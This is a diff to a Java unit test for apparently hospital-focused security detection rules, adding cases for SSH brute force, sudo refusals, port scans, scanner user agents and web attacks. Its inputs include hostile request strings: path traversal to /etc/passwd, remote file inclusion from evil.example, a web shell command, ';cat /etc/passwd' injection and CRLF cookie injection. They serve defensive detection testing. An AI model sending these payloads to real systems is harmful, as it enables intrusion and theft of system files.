@@ -28,8 +28,8 @@ class HealthRulesTest {
         Path rules = Path.of(System.getProperty("soc.rules.dir", "../rules"));
         library = RuleLibrary.load(List.of(rules));
         assertThat(library.rejected()).extracting(Exception::getMessage).isEmpty();
-        assertThat(library.ruleSet().size()).isEqualTo(8);
-        assertThat(library.correlators()).hasSize(5);
+        assertThat(library.ruleSet().size()).isEqualTo(20);
+        assertThat(library.correlators()).hasSize(7);
     }
 
     private static List<String> titles(List<Event> events) {
@@ -56,10 +56,14 @@ class HealthRulesTest {
         return out;
     }
 
+    /** The low alert of failures a typo does not explain (root, unknown users); the SSH tests look at the correlations. */
+    private static final String FAILURE = "Suspicious Linux Authentication Failure";
+
     @Test
     void bruteForceFiresAtEightFailuresWithin120Seconds() {
-        assertThat(titles(failures("203.0.113.9", 8, 10))).containsExactly("SSH Brute Force From One Source");
-        assertThat(titles(failures("203.0.113.9", 7, 10))).isEmpty();
+        assertThat(titles(failures("203.0.113.9", 8, 10))).filteredOn(t -> !t.equals(FAILURE))
+                .containsExactly("SSH Brute Force From One Source");
+        assertThat(titles(failures("203.0.113.9", 7, 10))).filteredOn(t -> !t.equals(FAILURE)).isEmpty();
     }
 
     @Test
@@ -87,14 +91,95 @@ class HealthRulesTest {
     }
 
     @Test
-    void singleLoginsRaiseNoAlertOfTheirOwn() {
-        assertThat(titles(List.of(ssh(1, "Failed password for an from 10.0.0.1 port 1 ssh2"),
-                ssh(2, "Accepted publickey for an from 10.0.0.1 port 2 ssh2")))).isEmpty();
+    void aMistypedPasswordRaisesNothingOnItsOwnButRootAndUnknownUsersDo() {
+        assertThat(titles(List.of(ssh(1, "Failed password for an from 10.0.0.1 port 1 ssh2")))).isEmpty();
+        assertThat(titles(List.of(ssh(2, "Accepted publickey for an from 10.0.0.1 port 2 ssh2")))).isEmpty();
+        assertThat(titles(List.of(ssh(1, "Failed password for root from 203.0.113.5 port 1 ssh2")))).containsExactly(FAILURE);
+        assertThat(titles(List.of(ssh(1, "Invalid user admin from 203.0.113.5 port 4242")))).containsExactly(FAILURE);
+        assertThat(titles(List.of(ssh(1, "User an from 203.0.113.5 not allowed because not listed in AllowUsers"))))
+                .containsExactly(FAILURE);
+        assertThat(titles(List.of(ssh(1, "message repeated 2 times: [ Failed password for an from 10.0.0.1 port 1 ssh2]"))))
+                .containsExactly(FAILURE);
+        assertThat(titles(List.of(SYSLOG.parse("Nov 21 10:00:00 his-app-01 vsftpd(pam_unix)[25073]: check pass; user unknown"))))
+                .containsExactly(FAILURE);
     }
 
+    @Test
+    void aRefusedSuIsAPrivilegeChangeRefused() {
+        assertThat(titles(List.of(SYSLOG.parse("Nov 21 10:00:00 his-app-01 su(pam_unix)[23164]: authentication failure;"
+                + " logname= uid=1342 euid=0 tty= ruser=dcid rhost=  user=osaudit")))).containsExactly("Sudo Or Su Refused");
+        assertThat(titles(List.of(SYSLOG.parse("Nov 21 10:00:00 his-app-01 su[234]: BAD SU ger to fwmaster on /dev/ttyp0"))))
+                .containsExactly("Sudo Or Su Refused");
+        assertThat(titles(List.of(SYSLOG.parse(
+                "Nov 21 10:00:00 his-app-01 su(pam_unix)[14592]: session opened for user news by (uid=0)")))).isEmpty();
+        assertThat(titles(List.of(SYSLOG.parse("Nov 21 10:00:00 his-app-01 su: dcid to root on /dev/ttyp1")))).isEmpty();
+    }
+
+    @Test
+    void sshProbesWithoutALogin() {
+        assertThat(titles(List.of(ssh(1, "Did not receive identification string from 198.51.100.4 port 5555"))))
+                .containsExactly("SSH Service Probed Without A Login");
+        assertThat(titles(List.of(ssh(1, "Bad protocol version identification 'GET / HTTP/1.1' from 198.51.100.4 port 5555"))))
+                .containsExactly("SSH Service Probed Without A Login");
+        assertThat(titles(List.of(ssh(1, "Connection closed by 10.0.0.2 port 55462 [preauth]")))).isEmpty();
+    }
+
+    @Test
+    void bruteForceWithNonExistentUsersCountsConnections() {
+        List<Event> eight = new ArrayList<>();
+        for (int i = 0; i < 8; i++) {
+            eight.add(ssh(i * 10, "Invalid user u" + i + " from 192.0.2.77 port " + (50000 + i)));
+        }
+        assertThat(titles(eight)).contains("SSH Brute Force With Non-Existent User Names");
+        assertThat(titles(eight.subList(0, 7))).doesNotContain("SSH Brute Force With Non-Existent User Names");
+    }
+
+    private static Event sudo(String message) {
+        return SYSLOG.parse("Nov 21 10:00:00 his-app-01 sudo:     " + message);
+    }
+
+    @Test
+    void sudoRefusedForWrongPasswordsOrUsersOutsideSudoers() {
+        assertThat(titles(List.of(sudo("mike : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/root ; USER=root ;"
+                + " COMMAND=/bin/ls")))).containsExactly("Sudo Or Su Refused");
+        assertThat(titles(List.of(sudo("ddp2 : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/ddp2 ; USER=root ;"
+                + " COMMAND=/bin/bash")))).containsExactly("Sudo Or Su Refused");
+        assertThat(titles(List.of(sudo("mike : TTY=pts/0 ; PWD=/home/mike ; USER=root ; COMMAND=/usr/bin/systemctl"
+                + " restart nginx")))).isEmpty();
+    }
+
+    private static Event packet(int second, String action, String source) {
+        return SYSLOG.parse(String.format("Nov 21 10:%02d:%02d his-app-01 kernel: [ 3529.289825] [UFW %s] IN=ens192 OUT="
+                + " MAC=00:50:56:aa:bb:cc:00:1c:73:4e:01:02:08:00 SRC=%s DST=10.10.1.5 LEN=44 TOS=0x00 PREC=0x00"
+                + " TTL=241 ID=54321 PROTO=TCP SPT=40952 DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0",
+                second / 60, second % 60, action, source, 1000 + second));
+    }
+
+    @Test
+    void manyBlockedPacketsFromOneSourceWithinAMinute() {
+        List<Event> scan = new ArrayList<>();
+        List<Event> allowed = new ArrayList<>();
+        List<Event> spread = new ArrayList<>();
+        for (int i = 0; i < 15; i++) {
+            scan.add(packet(i * 3, "BLOCK", "198.51.100.23"));
+            allowed.add(packet(i * 3, "ALLOW", "198.51.100.23"));
+            spread.add(packet(i * 3, "BLOCK", "198.51.100." + (100 + i)));
+        }
+        assertThat(titles(scan)).containsExactly("Many Blocked Packets From One Source");
+        assertThat(titles(scan.subList(0, 14))).isEmpty();
+        assertThat(titles(allowed)).isEmpty();
+        assertThat(titles(spread)).isEmpty();
+    }
+
+    private static final String BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0";
+
     private static Event web(String request) {
+        return web(request, 200, BROWSER);
+    }
+
+    private static Event web(String request, int status, String agent) {
         return ACCESS.parse("203.0.113.77 - - [21/Nov/2026:10:00:00 +0700] \"GET " + request
-                + " HTTP/1.1\" 200 512 \"-\" \"sqlmap/1.8\"");
+                + " HTTP/1.1\" " + status + " 512 \"-\" \"" + agent + "\"");
     }
 
     @Test
@@ -109,7 +194,71 @@ class HealthRulesTest {
         assertThat(titles(List.of(web("/static/../../etc/passwd")))).contains(
                 "Path Traversal Or Secrets File Request On A Hospital Portal");
         assertThat(titles(List.of(web("/.env")))).contains("Path Traversal Or Secrets File Request On A Hospital Portal");
+        assertThat(titles(List.of(web("/db/config.php.bak")))).contains(
+                "Path Traversal Or Secrets File Request On A Hospital Portal");
         assertThat(titles(List.of(web("/static/css/app.css")))).isEmpty();
+    }
+
+    @Test
+    void scannerUserAgents() {
+        assertThat(titles(List.of(web("/", 200, "sqlmap/1.8#stable (https://sqlmap.org)"))))
+                .containsExactly("Web Vulnerability Scanner User Agent");
+        assertThat(titles(List.of(web("/", 200, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"))))
+                .containsExactly("Web Vulnerability Scanner User Agent");
+        assertThat(titles(List.of(web("/", 200, BROWSER)))).isEmpty();
+    }
+
+    @Test
+    void remoteFileInclusion() {
+        assertThat(titles(List.of(web("/index.php?page=http://evil.example/shell.txt?")))).containsExactly(
+                "Remote File Inclusion Attempt");
+        assertThat(titles(List.of(web("/login.php?return=https://portal.benhvien.vn/home")))).isEmpty();
+    }
+
+    @Test
+    void webShellsAndCommandInjection() {
+        assertThat(titles(List.of(web("/uploads/shell.php?cmd=id")))).containsExactly(
+                "Web Shell Access Or Command Injection");
+        assertThat(titles(List.of(web("/tools/ping.php?host=127.0.0.1;cat%20/etc/passwd")))).contains(
+                "Web Shell Access Or Command Injection");
+        assertThat(titles(List.of(web("/tin-tuc?id=12&cat=3")))).isEmpty();
+    }
+
+    @Test
+    void crlfInjection() {
+        assertThat(titles(List.of(web("/redirect?to=%0d%0aSet-Cookie:%20session=evil")))).containsExactly(
+                "HTTP Response Splitting (CRLF Injection)");
+        assertThat(titles(List.of(web("/tim-kiem?q=kham%20tong%20quat")))).isEmpty();
+    }
+
+    @Test
+    void probesForAdminToolsThatAreNotThere() {
+        assertThat(titles(List.of(web("/phpMyAdmin/scripts/setup.php", 404, BROWSER)))).containsExactly(
+                "Probe For Database Or Server Admin Tools");
+        assertThat(titles(List.of(web("/phpmyadmin/index.php", 200, BROWSER)))).isEmpty();
+    }
+
+    private static Event post(String path, String agent) {
+        return ACCESS.parse("203.0.113.77 - - [21/Nov/2026:10:00:00 +0700] \"POST " + path + " HTTP/1.1\" 403 181 \"-\" \""
+                + agent + "\"");
+    }
+
+    @Test
+    void crawlerNamesDoNotSubmitForms() {
+        assertThat(titles(List.of(post("/gop-y", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"))))
+                .containsExactly("Search Engine Crawler Name On A Comment Or Login Form");
+        assertThat(titles(List.of(post("/gop-y", BROWSER)))).isEmpty();
+        assertThat(titles(List.of(post("/api/render-data", "Mozilla/5.0 (compatible; Googlebot/2.1)")))).isEmpty();
+        assertThat(titles(List.of(web("/tin-tuc", 200, "Mozilla/5.0 (compatible; Googlebot/2.1)")))).isEmpty();
+    }
+
+    @Test
+    void knownPhpApplicationExploits() {
+        assertThat(titles(List.of(web("/wp-content/themes/tin-tuc/timthumb.php?src=uploads/x.php")))).containsExactly(
+                "Exploit Of A Known PHP Application Flaw");
+        assertThat(titles(List.of(web("/catalog/admin/file_manager.php/login.php")))).containsExactly(
+                "Exploit Of A Known PHP Application Flaw");
+        assertThat(titles(List.of(web("/wp-content/themes/tin-tuc/timthumb.php?src=/images/logo.png&w=200")))).isEmpty();
     }
 
     private static Event ehr(String time, String user, String action, String patient, String purpose, Long count) {
